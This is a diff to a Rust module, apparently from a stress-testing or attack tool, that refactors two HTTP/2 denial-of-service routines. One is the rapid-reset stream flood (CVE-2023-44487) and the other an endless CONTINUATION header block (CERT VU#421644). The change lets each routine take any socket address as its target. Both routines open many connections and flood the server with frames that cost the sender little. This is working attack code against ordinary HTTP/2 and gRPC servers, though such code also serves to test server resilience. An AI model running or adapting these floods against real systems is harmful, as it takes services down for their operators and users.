@@ -1,6 +1,7 @@
 //! Floods of frames that cost the sender almost nothing.
 
 use std::io::Result;
+use std::net::SocketAddr;
 
 use tokio::io::{AsyncReadExt, AsyncWriteExt};
 use tokio::net::TcpStream;
@@ -17,8 +18,13 @@ const WINDOW: u32 = 65_535;
 
 /// Streams that are opened and reset, again and again (CVE-2023-44487).
 pub(super) fn rapid_reset(target: Target) -> Attacking {
+    reset_streams(target.grpc)
+}
+
+/// Opens streams of calls and resets them.
+pub(super) fn reset_streams(to: SocketAddr) -> Attacking {
     crowd(CONNECTIONS, move |number| async move {
-        let mut stream = connect_h2(source(number), target.grpc, WINDOW).await?;
+        let mut stream = connect_h2(source(number), to, WINDOW).await?;
         let block = call(&[]);
         let mut id = 1;
         loop {
@@ -36,8 +42,13 @@ pub(super) fn rapid_reset(target: Target) -> Attacking {
 
 /// A header block that never ends (CERT VU#421644).
 pub(super) fn continuations(target: Target) -> Attacking {
+    continue_headers(target.grpc)
+}
+
+/// Continues a header block without an end.
+pub(super) fn continue_headers(to: SocketAddr) -> Attacking {
     crowd(CONNECTIONS, move |number| async move {
-        let mut stream = connect_h2(source(number), target.grpc, WINDOW).await?;
+        let mut stream = connect_h2(source(number), to, WINDOW).await?;
         let mut out = Vec::new();
         frame(&mut out, kind::HEADERS, flag::NONE, 1, &call(&[]));
         let more = call(&[(b"x", &[b'x'; 1000])]);
